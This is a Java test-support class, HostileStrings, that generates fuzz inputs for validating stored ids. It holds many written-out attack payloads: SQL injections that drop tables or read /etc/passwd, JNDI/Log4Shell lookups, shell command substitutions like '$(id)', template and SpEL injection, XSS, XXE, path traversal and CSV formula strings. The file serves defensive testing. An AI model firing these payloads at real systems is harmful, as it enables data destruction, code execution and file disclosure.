package com.datasaz.rl.store.contract;

import java.util.ArrayList;
import java.util.List;

/** What arrives when anybody may send ids: injections, look-alikes, broken text. */
final class HostileStrings {
  private static final List<String> SHAPES =
      List.of(
          "'",
          "''",
          "\"",
          "`",
          "\\",
          "\\'",
          ";",
          "--",
          "#",
          "/*",
          "*/",
          "%",
          "_",
          "?",
          ":name",
          "$1",
          "${rl_prefix}",
          "${jndi:ldap://x/y}",
          "{fn now()}",
          "{ts '2026-01-01 00:00:00'}",
          "' OR '1'='1",
          "' OR 1=1 --",
          "1; DROP TABLE user_product_interactions; --",
          "'); DELETE FROM rl_decisions; --",
          "' UNION SELECT sql FROM sqlite_master --",
          "'||(SELECT pg_sleep(10))||'",
          "' AND SLEEP(10) #",
          "x'; CALL CSVWRITE('x', 'SELECT 1'); --",
          "0x27",
          "\\u0027",
          "%27",
          "&#39;",
          "<script>alert(1)</script>",
          "{\"a\":1}",
          "[1]",
          "{\"$ne\":null}",
          "null",
          "NULL",
          "NaN",
          "Infinity",
          "1e400",
          "-0",
          "007",
          "1",
          "1.0",
          " 1",
          "1 ",
          "+1",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775808",
          "true",
          "../../etc/passwd",
          "C:\\",
          "|",
          "a",
          "A",
          "a ",
          " a",
          "à",
          "a\u0300",
          "ß",
          "ss",
          "ſ",
          "İ",
          "ı",
          "ﬁ",
          "Ａ",
          "e1",
          "é1",
          "日本語",
          "한국어",
          "עברית",
          "🫐",
          "👩‍👩‍👧",
          "\uD83C\uDDF3\uD83C\uDDF4",
          "\uFFFD",
          "\uFEFFbom",
          "\u202Eevil",
          "\u2066isolated\u2069",
          "\u200Fmarked",
          "\u00ADsoft",
          "\uFDD0",
          "\uFFFE",
          "\uDBFF\uDFFF",
          "Z̷͓̅a̴l̶g̵o̷",
          "\u200B",
          "a\u200Ba",
          "\u00A0",
          "\uFFFF",
          // From here on: refused by name.
          "",
          "\u0000",
          "a\u0000b",
          "\n",
          "a\r\nSet-Cookie: x",
          "\t",
          "\u001B[31m",
          "\u007F",
          "\u0085",
          "\uD800",
          "\uDC00a",
          "a\uD83C");

  /** Ways into SQL, by what follows a quote that was not escaped. */
  private static final List<String> SQL =
      List.of(
          "OR 1=1",
          "OR 'a'='a",
          "AND 1=0 UNION SELECT NULL",
          "UNION ALL SELECT user_id, NULL FROM user_context_features",
          "; DROP TABLE rl_erasures",
          "; DELETE FROM rl_dead_letters",
          "; UPDATE rl_log_sequence SET last_sequence = 0",
          "; INSERT INTO rl_decisions VALUES (1)",
          "; ATTACH DATABASE '/tmp/x' AS x",
          "; PRAGMA writable_schema = ON",
          "; COPY rl_decisions TO PROGRAM 'id'",
          "; SELECT lo_import('/etc/passwd')",
          "; LOAD DATA INFILE '/etc/passwd' INTO TABLE x",
          "INTO OUTFILE '/tmp/x'",
          "; SHUTDOWN",
          "; CALL FILE_READ('/etc/passwd')",
          "; CREATE ALIAS X AS 'void x() {}'",
          "AND (SELECT 1 FROM (SELECT SLEEP(5)) x)",
          "; SELECT pg_sleep(5)",
          "; BEGIN; COMMIT",
          "; ROLLBACK",
          "LIMIT 1 OFFSET 1",
          "ORDER BY 99",
          "HAVING 1=1",
          "GROUP BY 1",
          "COLLATE nocase",
          "ESCAPE '!'",
          "LIKE '%'",
          "REGEXP '.*'",
          "IS NOT NULL");

  private static final List<String> QUOTES =
      List.of(
          "' %s --",
          "\" %s --", "') %s #", "'; %s;", "\\' %s /*", "1 %s", "%27 %s", "x' || (%s) || '");

  /** Ways into what reads a text after it was stored. */
  private static final List<String> READERS =
      List.of(
          "${env:PATH}",
          "${sys:user.home}",
          "${jndi:rmi://x/y}",
          "${${lower:j}ndi:ldap://x/y}",
          "#{T(java.lang.Runtime).getRuntime()}",
          "{{7*7}}",
          "<%= 7*7 %>",
          "%s%s%s%n",
          "%x%x%x%x",
          "{0}",
          "{}",
          "..%2f..%2fetc%2fpasswd",
          "..\\..\\windows",
          "/dev/zero",
          "file:///etc/passwd",
          "\\\\host\\share",
          "a/../b",
          "~root",
          "$(id)",
          "`id`",
          "| id",
          "&& id",
          "=cmd|' /C calc'!A0",
          "@SUM(1)",
          "+1+1",
          "<img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "\"><svg/onload=alert(1)>",
          "<!--",
          "]]>",
          "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
          "*)(uid=*))(|(uid=*",
          "{\"@type\":\"java.net.URL\"}",
          "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
          "(a+)+$",
          ".*",
          "[a-z]{1,99999}",
          "__proto__",
          "constructor",
          "undefined",
          "nil",
          "0",
          "-1",
          "1e-400",
          "0x7fffffff",
          "2147483648",
          "1,5",
          "١٢٣",
          "1_000",
          "¹",
          "Ⅷ");

  private HostileStrings() {}

  /** At most a few of each class: what every build tries. */
  static List<String> all() {
    List<String> all = new ArrayList<>(SHAPES);
    all.addAll(refused());
    for (int length : new int[] {50, 64, 100, 255, 256, 1_000, 1_001, 100_000}) {
      all.add("x".repeat(length));
      all.add("é".repeat(length));
      all.add("🫐".repeat(length / 2));
      all.add("'".repeat(length));
    }
    if (Boolean.getBoolean("rl.hostile")) {
      all.addAll(injections());
      all.addAll(READERS);
    }
    return all.stream().distinct().toList();
  }

  /** Every one: some five hundred. */
  static List<String> everyOne() {
    List<String> every = new ArrayList<>(all());
    every.addAll(injections());
    every.addAll(READERS);
    return every.stream().distinct().toList();
  }

  private static List<String> injections() {
    return SQL.stream()
        .flatMap(sql -> QUOTES.stream().map(quote -> quote.replace("%s", sql)))
        .toList();
  }

  /** Each control character, and each half of a pair, where it may stand. */
  private static List<String> refused() {
    List<String> refused = new ArrayList<>();
    for (char c = 0; c < 0xa0; c++) {
      if (Character.isISOControl(c)) {
        refused.add("a" + c + "b");
      }
    }
    for (String half : List.of("\uD83E", "\uDED0", "\uDBFF", "\uDFFF")) {
      refused.addAll(List.of(half, "a" + half, half + "a", half + half));
    }
    return refused;
  }
}
